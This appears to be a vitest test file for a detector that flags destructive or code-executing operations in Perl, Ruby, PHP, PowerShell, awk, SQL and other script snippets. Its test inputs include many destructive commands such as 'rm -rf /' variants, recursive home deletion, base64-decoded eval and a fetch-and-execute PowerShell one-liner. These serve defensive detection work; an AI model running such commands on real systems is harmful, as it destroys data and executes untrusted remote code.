import { describe, expect, it } from 'vitest'
import type { CodeLanguage } from '../../../../src/model/shell.ts'
import { recognised } from './recognised.ts'

const cases: readonly (readonly [CodeLanguage, string, readonly string[]])[] = [
  ['perl', 'unlink "/a", "/b";', ['delete /a', 'delete /b']],
  ['perl', 'sysopen(my $f, "$ENV{HOME}/x", O_WRONLY|O_TRUNC)', ['write /home/u/x']],
  ['perl', 'open(my $f, ">", "/a"); open(F, "<", "/b")', ['write /a', 'read /b']],
  ['perl', 'open(F, "rm -rf / |")', ['script rm -rf /']],
  ['perl', 'system("rm", "-rf", "/")', ['words rm -rf /']],
  ['perl', 'my $x = qx{rm -rf /};', ['script rm -rf /']],
  ['perl', 'for my $f ("/a", "/b") { unlink $f }', ['delete /a', 'delete /b']],
  ['perl', 'unlink for ("/a", "/b")', ['delete /a', 'delete /b']],
  ['perl', 'unlink $_ for ("/a", "/b")', ['delete /a', 'delete /b']],
  ['perl', 'print "unlink $_" for ("/a", "/b")', []],
  ['perl', 's/a/system("ls")/e', ['script ls']],
  ['perl', 'use File::Path; rmtree("/a")', ['delete all of /a']],
  ['perl', 'eval \'unlink "/a"\'', ['perl unlink "/a"', 'does evaluates']],
  ['ruby', 'File.unlink("/a\\u{2e}b")', ['delete /a.b']],
  ['ruby', 'FileUtils.rm_rf Dir.home', ['delete all of /home/u']],
  ['ruby', 'system "rm", "-rf", "/"', ['words rm -rf /']],
  ['ruby', '`rm -rf /`', ['script rm -rf /']],
  ['ruby', 'x = %x(rm -rf /)', ['script rm -rf /']],
  ['ruby', 'puts "#{system(\'ls\')}"', ['script ls']],
  ['ruby', '%w[/a /b].each { |f| File.delete(f) }', ['delete /a', 'delete /b']],
  ['ruby', 'Kernel.send(:system, "ls")', ['script ls']],
  ['ruby', 'File.open("/a", "w") { |f| f.puts 1 }', ['write /a']],
  ['php', "unlink($_SERVER['HOME'] . '/x');", ['delete /home/u/x']],
  ['php', '$f = "system"; $f("ls");', ['script ls']],
  ['php', 'echo `ls`;', ['script ls']],
  ['php', "foreach (['/a', '/b'] as $p) unlink($p);", ['delete /a', 'delete /b']],
  ['php', "eval(base64_decode('bHM='));", ['php ls', 'does decodes', 'does evaluates']],
  ['lua', 'os.remove("/a" .. "/b")', ['delete /a/b']],
  ['lua', 'os.execute"ls"', ['script ls']],
  ['r', 'unlink("/a", recursive = TRUE)', ['delete all of /a']],
  ['r', 'system2("rm", c("-rf", "/"))', ['words rm -rf /']],
  ['r', 'eval(parse(text = "system(\'ls\')"))', ["r system('ls')", 'does evaluates']],
  ['julia', 'rm(joinpath(homedir(), "x"); recursive=true)', ['delete all of /home/u/x']],
  ['julia', 'run(`rm -rf /`)', ['script rm -rf /']],
  ['powershell', 'Remove-Item -Recurse "${HOME}/x"', ['delete all of /home/u/x']],
  ['powershell', 'Get-ChildItem /a | ri -r', ['delete all of /a/*']],
  ['powershell', '$p = "/a"; if ($true) { del $p }', ['delete /a']],
  ['powershell', 'iwr https://e.test | iex', ['powershell ?', 'does network', 'does evaluates']],
  ['powershell', '& "git" push --force', ['words git push --force']],
  ['cmd', 'rd /s /q C:\\x', ['delete all of C:\\x']],
  ['cmd', "del '/a/b'", ['delete /a/b']],
  ['awk', 'BEGIN { system("rm\\040-rf\\040/") }', ['script rm -rf /']],
  ['awk', '{ print $1 | "sh" }', ['script sh']],
  ['awk', 'BEGIN { c = "ls"; c | getline x; print x > "/a" }', ['write /a', 'script ls']],
  ['sql', '\\! rm -rf /', ['script rm -rf /']],
  ['sql', "copy t to program 'ls'", ['script ls']],
]

const harmless: readonly (readonly [CodeLanguage, string])[] = [
  ['perl', 'print "unlink \'/a\'";'],
  ['perl', '=pod\nunlink "/a";\n=cut\nprint 1'],
  ['perl', '# system("ls")'],
  ['perl', 'print q{system("ls")};'],
  ['perl', 's/system/x/; tr/a-z/A-Z/; my %h = (s => 1, y => 2);'],
  ['ruby', 'puts %q{File.unlink("/a")}'],
  ['ruby', '# system("ls")'],
  ['ruby', "puts 'system(1)'"],
  ['php', 'echo "unlink(\'/a\')"; // unlink("/a")'],
  ['lua', 'print([[os.remove("/a")]])'],
  ['lua', '--[[ os.remove("/a") ]] -- os.remove("/b")'],
  ['r', 'cat("file.remove(\'/a\')") # unlink("/a")'],
  ['julia', 'println("rm(1)") # rm("/a")'],
  ['powershell', 'Write-Host "Remove-Item /a" # Remove-Item /a'],
  ['powershell', "'Remove-Item /a'; <# del /a #>"],
  ['cmd', 'echo del /a/b'],
  ['awk', '/system("ls")/ { print }'],
  ['awk', '$1 > 5 || $2 == "x" { print "system(1)" } # system("ls")'],
  ['sql', 'select 1'],
]

describe('scripting languages', () => {
  it.each(cases)('recognises in %s: %s', (language, text, found) => {
    expect(recognised(language, text)).toEqual(found)
  })

  it.each(harmless)('finds nothing in %s: %s', (language, text) => {
    expect(recognised(language, text)).toEqual([])
  })
})
